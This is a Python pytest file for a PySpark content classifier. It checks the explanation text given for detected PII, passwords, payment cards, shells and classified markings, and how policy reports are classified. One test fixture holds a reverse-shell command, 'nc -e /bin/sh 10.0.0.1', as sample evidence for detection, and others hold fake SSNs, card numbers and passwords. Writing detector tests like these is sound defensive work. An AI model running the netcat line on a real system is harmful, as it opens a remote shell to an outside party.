"""Explanations by subcategory and reports that are classified twice."""

import pytest
from pyspark.sql import functions as F

from siftstone.functions import explanations as X
from siftstone.operators import feeds as D


def told(spark, subcategory, text, evidence=None):
    rows = spark.createDataFrame([(subcategory, text, evidence)], "s string, t string, e string")
    return rows.select(X.explanation(F.col("s"), F.col("t"), F.col("e"))).first()[0]


@pytest.mark.parametrize(
    ("subcategory", "text", "evidence", "want"),
    [
        ("pii.identity", "Patient file\nName: Jane Smith has 123-45-6789 here", None, "Data that identifies a person: Name: Jane Smith; social security number 123-XX-6789. Found in medical record. It helps to steal an identity."),
        ("credentials.password", "password: hunter2hunter2", None, "Password in plain text: password: hu.... Replace it at once and keep its successor out of files."),
        ("credentials.password", "", None, "Password in plain text. Replace it at once and keep its successor out of files."),
        ("financial.credit_card", "4111-1111-1111-1111 paid", None, "Number of a payment card: 4111-XXXX-XXXX-1111. It allows payments in someone else's name."),
        ("malicious.shell", "a first line", "nc -e /bin/sh\n10.0.0.1", "Shell opened to a stranger: nc -e /bin/sh 10.0.0.1. Isolate what ran it."),
        ("malicious.shell", "a first line", "short", "Shell opened to a stranger: a first line. Isolate what ran it."),
        ("confidential.classified", "# x\nthis is top secret", None, "Classified document: marked TOP SECRET; this is top secret. Only for those cleared for it."),
        ("pii.place_of_birth", None, None, "Personal data (place of birth). Keep it from others."),
        ("odd", None, None, "Content of the kind odd. Look at it."),
        (None, "x", None, None),
    ],
)
def test_explanation(spark, subcategory, text, evidence, want):
    assert told(spark, subcategory, text, evidence) == want


def test_values_far_into_a_text_and_odd_marks(spark):
    assert "4111-XXXX-XXXX-1111" in told(spark, "financial.credit_card", "word " * 200_000 + " 4111 1111 1111 1111 {amount} $1 \\0")
    assert told(spark, "confidential.internal", "all {kind} and $1 \\1 of it") == "Paper of a company's own: all {kind} and $1 \\1 of it. Not meant for others."


def test_policy_reports(spark):
    reports = spark.createDataFrame(
        [(1, "Missile and submarine", None), (1, "Missile and submarine", None), (2, "The navy", "its ships"), (3, "Farming", "corn"), (4, "The navy", ""), (None, "the army", None), (5, None, None)],
        "report_id int, title string, summary string",
    )
    bodies = spark.createDataFrame([(2, "icbm and warhead"), (3, "icbm and warhead"), (4, ""), (4, "nothing"), (None, "icbm and warhead"), (1, None), (2, "x" * 6000 + " fisa espionage")], "report_id int, text string")
    got = sorted(((r["report_id"] or 0, [f["subcategory"] for f in r["findings"]], r["from_body"]) for r in D.policy_reports(reports, bodies.withColumn("title", F.lit("clash"))).collect()), key=str)
    arms = ["confidential.weapons_systems"]
    assert [g for g in got if g[0] == 1] == [(1, arms, False)] * 2
    assert [g for g in got if g[0] in (0, 4)] == [(0, ["confidential.military"], False), (4, ["confidential.military"], True)]
    assert [g for g in got if g[0] == 2] == [(2, ["confidential.nuclear"], True)] and not [g for g in got if g[0] in (3, 5)]
    row = D.policy_reports(reports.where("report_id = 2"), bodies).first()
    assert row["text"] == "CRS Report: 2\nTitle: The navy\n\nits ships\n\nicbm and warhead"
    assert (row["findings"][0]["severity"], row["findings"][0]["extracted_data"]) == ("critical", {"compliance": "10-CFR-1045, EO-13526"})
    assert D.policy_reports(reports.limit(0), bodies).count() == 0
